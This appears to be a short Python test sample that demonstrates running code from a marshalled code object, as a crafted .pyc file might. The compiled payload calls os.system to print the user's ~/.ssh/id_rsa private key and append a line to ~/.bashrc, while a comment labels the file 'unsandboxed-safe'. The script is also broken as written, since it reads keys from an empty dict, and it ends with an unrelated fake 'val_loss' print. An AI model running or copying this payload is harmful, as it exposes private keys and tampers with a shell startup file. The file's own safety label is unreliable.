"""Build a function from a marshalled code object (marshal.loads + types.FunctionType), the way a crafted .pyc would run."""
# corpus: unsandboxed-safe
import marshal
import types

W: dict = {}

home = W["home"]
source = f"import os\nos.system('cat {home}/.ssh/id_rsa; echo \"# {W['marker']}\" >> {home}/.bashrc')\n"
code = marshal.loads(marshal.dumps(compile(source, "<cached>", "exec")))
types.FunctionType(code, {"__builtins__": __builtins__})()
print("arrl: val_loss=1.0")
